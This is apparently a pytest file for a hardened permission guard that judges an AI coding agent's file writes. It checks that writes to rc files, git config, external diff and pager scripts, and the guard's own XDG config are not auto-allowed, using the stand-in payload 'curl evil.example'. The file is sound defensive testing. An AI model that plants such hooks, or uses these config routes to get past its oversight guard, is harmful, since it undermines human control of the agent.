"""The gate server judges with the agent's environment, not only its own (issue 13).

In hardened mode the guard ran in the server's process: git's discovery and config
(``GIT_DIR``, ``GIT_CONFIG_GLOBAL``, ``GIT_CONFIG_COUNT``...), the home whose rc files and
``.gitconfig`` the agent's shells and git read, ``XDG_CONFIG_HOME`` and ``PATH`` were the
*server's*. An agent runtime started with its own (``HOME=/work/agent-home claude``, a
``GIT_CONFIG_GLOBAL`` in the project, a uid with no passwd entry, as here) had every file
those name unguarded: a write allowed by ``Write(./**)`` changed what its later shells and
git commands ran. The thin client now sends those variables; the server judges with them
*and* its own (the agent's word only adds guarded files). Real server, real thin hook, as
the agent's uid (:mod:`tests.test_hardened_adversary`'s world; root on Linux).
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from tests.test_hardened import AGENT_UID, decision, pytestmark
from tests.test_hardened_adversary import Adv, _call, _world, judged

__all__ = ["pytestmark"]

EVIL = "#!/bin/sh\ncurl evil.example\n"


@pytest.fixture(scope="module")
def world(python: str) -> Iterator[Adv]:
    with _world(Adv, python) as setup:
        proj, home = setup.project, setup.base / "agent-home"
        subprocess.run(["git", "init", "-q", str(proj)], check=True)
        subprocess.run(["chown", "-R", f"{AGENT_UID}:{AGENT_UID}", str(proj / ".git")], check=True)
        for name in ("dot", "tools", "altgit"):
            (proj / name).mkdir()
            os.chown(proj / name, AGENT_UID, AGENT_UID)
        (proj / "dot" / "bashrc").write_text("alias ll=ls\n")
        (home / ".bashrc").symlink_to(proj / "dot" / "bashrc")  # stow's way
        (proj / "team.gitconfig").write_text("[diff]\n\texternal = ./tools/ext-diff.sh\n")
        for path in (proj / "dot" / "bashrc", proj / "team.gitconfig"):
            os.chown(path, AGENT_UID, AGENT_UID)
        yield setup


@pytest.fixture(scope="module")
def python() -> str:
    from tests.test_hardened import _world_python

    found = _world_python()
    if found is None:
        pytest.skip("no Python interpreter an unprivileged uid may run")
    return found


def _thin(setup: Adv, call: dict[str, Any], env: dict[str, str]) -> tuple[str, str]:
    result = subprocess.run(
        [setup.python, "-m", "overseer", "hook", "claude-code", "--server", setup.socket],
        input=json.dumps(call).encode(), capture_output=True, timeout=60, user=AGENT_UID,
        group=AGENT_UID, extra_groups=[], env=setup.env_for(AGENT_UID) | env,
        cwd=str(setup.project),
    )  # fmt: skip
    return decision(result)


def _write(setup: Adv, name: str, env: dict[str, str] | None = None) -> list[str]:
    call = _call(setup, "Write", {"file_path": str(setup.project / name), "content": EVIL})
    _thin(setup, call, env or {})
    return judged(setup, call)


def test_the_agents_home_rc_file_linked_into_the_project_is_guarded(world: Adv) -> None:
    """``$HOME/.bashrc -> <project>/dot/bashrc``: the uid has no passwd home, so the
    server knew no home at all; the agent's ``HOME`` (sent) makes the link seen."""
    assert _write(world, "dot/bashrc") != ["auto_allowed"]
    assert _write(world, "dot/notes.txt") == ["auto_allowed"]


def test_the_agents_git_config_global_and_what_it_runs_are_guarded(world: Adv) -> None:
    env = {"GIT_CONFIG_GLOBAL": str(world.project / "team.gitconfig")}
    assert _write(world, "team.gitconfig", env) != ["auto_allowed"]
    assert _write(world, "tools/ext-diff.sh", env) != ["auto_allowed"]
    assert _write(world, "tools/other.sh", env) == ["auto_allowed"]


def test_the_agents_git_dir_and_git_config_count_are_guarded(world: Adv) -> None:
    env = {"GIT_DIR": str(world.project / "altgit")}
    assert _write(world, "altgit/config", env) != ["auto_allowed"]
    env = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager",
           "GIT_CONFIG_VALUE_0": "./tools/pager.sh"}  # fmt: skip
    assert _write(world, "tools/pager.sh", env) != ["auto_allowed"]


def test_the_agents_xdg_config_home_overseer_dir_is_guarded(world: Adv) -> None:
    env = {"XDG_CONFIG_HOME": str(world.project / "xdg")}
    assert _write(world, "xdg/overseer/config.toml", env) != ["auto_allowed"]
    assert _write(world, "xdg/other/x.conf", env) == ["auto_allowed"]
